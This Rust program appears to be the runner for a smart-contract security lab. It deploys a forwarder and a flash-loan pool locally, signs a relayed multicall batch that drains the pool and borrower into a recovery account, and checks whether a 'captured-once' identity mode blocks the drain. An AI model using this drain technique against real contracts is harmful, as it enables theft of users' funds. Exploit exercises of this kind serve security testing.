mod logging;
mod report;

use std::{fs, path::PathBuf};

use alloy_primitives::U256;
use anyhow::{anyhow, Context, Result};
use clap::Parser;
use tracing::{info, warn};

use relay_pool::{
    contracts::Forwarder, relay_succeeded, BatchIdentity, Deployment, ScenarioConfig,
};
use relay_pool_client::{DrainPlan, DrainTargets, RequestSigner};

use crate::report::{Balances, Report};

/// Deploy a forwarder and a flash-loan pool, then submit the fee-drain batch through the
/// forwarder as a single signed request.
///
/// With `--batch-identity per-payload` the batch empties both the borrower and the pool
/// into the recovery account. With `captured-once` the withdrawal is refused and the whole
/// batch rolls back.
#[derive(Parser, Debug)]
#[command(author, version, about)]
struct Cli {
    /// JSON file with a `ScenarioConfig`. Missing fields take their defaults.
    #[arg(long, env = "RELAY_POOL_CONFIG")]
    config: Option<PathBuf>,

    /// How the pool's `multicall` resolves the caller of each payload.
    #[arg(long, env = "RELAY_POOL_BATCH_IDENTITY")]
    batch_identity: Option<BatchIdentity>,

    /// Principal of each triggered flash loan.
    #[arg(long, default_value_t = 3)]
    loan_amount: u128,

    /// Gas the signed request grants to the pool.
    #[arg(long, default_value_t = 5_000_000)]
    request_gas: u64,

    /// Seconds the signed request stays valid.
    #[arg(long, default_value_t = 3_600)]
    validity: u64,

    /// Player private key (hex). Defaults to a deterministic test key.
    #[arg(long, env = "PLAYER_KEY", hide_env_values = true)]
    player_key: Option<String>,

    /// Path to write the JSON report.
    #[arg(long)]
    report: Option<PathBuf>,

    /// Bare level (eg `debug`) or a full filter directive list.
    #[arg(long, env = "RUST_LOG", default_value = "info")]
    log_level: String,

    /// Emit logs as JSON lines.
    #[arg(long)]
    json_logs: bool,
}

fn main() -> Result<()> {
    let cli = Cli::parse();
    logging::setup_logging(&cli.log_level, cli.json_logs);

    let config = load_config(&cli)?;
    let signer = match cli.player_key.as_deref() {
        Some(key) => RequestSigner::from_hex(key).context("invalid --player-key")?,
        None => RequestSigner::from_label("player")?,
    };
    let player = signer.address();

    let mut deployment = Deployment::new(config, player).context("deployment failed")?;
    let before = Balances::snapshot(&mut deployment)?;

    let ledger = deployment.ledger().context("pool ledger view reverted")?;
    let plan = DrainPlan::size(
        DrainTargets {
            pool: deployment.pool,
            asset: deployment.asset,
            borrower: deployment.receiver,
            fee_receiver: ledger.fee_receiver,
            recovery: deployment.recovery,
        },
        ledger.total_balance,
        before.receiver,
        ledger.fee_per_loan,
        U256::from(cli.loan_amount),
    );
    info!(loans = plan.loans, withdraw = %plan.withdraw_amount, "drain plan");

    let nonce = deployment.nonce_of(player);
    let deadline = deployment.timestamp().saturating_add(cli.validity);
    let request = plan.request(player, nonce, cli.request_gas, deadline);
    let domain = Forwarder::domain(&deployment.host, deployment.forwarder);
    let execute = signer.execute_call(request, &domain)?;

    let receipt = deployment.relay(player, &execute);
    let relay_success = relay_succeeded(&receipt);
    if let Some(revert) = receipt.revert() {
        warn!(%revert, "relay rejected the request");
    }

    let after = Balances::snapshot(&mut deployment)?;
    let drained = after.pool.is_zero()
        && after.receiver.is_zero()
        && after.recovery == before.recovery + before.pool + before.receiver;

    let report = Report {
        executed_at: report::now_rfc3339(),
        batch_identity: deployment.config.batch_identity,
        player,
        pool: deployment.pool,
        loans: plan.loans,
        withdraw_amount: plan.withdraw_amount,
        before,
        after,
        relay_success,
        player_nonce: deployment.nonce_of(player),
        gas_used: receipt.gas_used,
        drained,
    };

    println!("batch identity : {}", report.batch_identity);
    println!("relay success  : {}", display_success(report.relay_success));
    println!("pool           : {} -> {}", before.pool, after.pool);
    println!("receiver       : {} -> {}", before.receiver, after.receiver);
    println!("recovery       : {} -> {}", before.recovery, after.recovery);
    println!("drained        : {}", report.drained);

    if let Some(path) = cli.report.as_deref() {
        report::write_json_atomic(path, &report)?;
        println!("report written to {}", path.display());
    }
    Ok(())
}

fn load_config(cli: &Cli) -> Result<ScenarioConfig> {
    let mut config = match cli.config.as_deref() {
        Some(path) => {
            let raw = fs::read_to_string(path)
                .with_context(|| format!("failed reading {}", path.display()))?;
            serde_json::from_str::<ScenarioConfig>(&raw)
                .with_context(|| format!("failed parsing JSON in {}", path.display()))?
        }
        None => ScenarioConfig::default(),
    };
    if let Some(mode) = cli.batch_identity {
        config.batch_identity = mode;
    }
    if config.tx_gas_limit <= cli.request_gas {
        return Err(anyhow!(
            "--request-gas ({}) must be below the transaction gas limit ({})",
            cli.request_gas,
            config.tx_gas_limit
        ));
    }
    Ok(config)
}

fn display_success(success: Option<bool>) -> &'static str {
    match success {
        Some(true) => "yes",
        Some(false) => "no (inner call reverted, nonce consumed)",
        None => "no (request rejected)",
    }
}
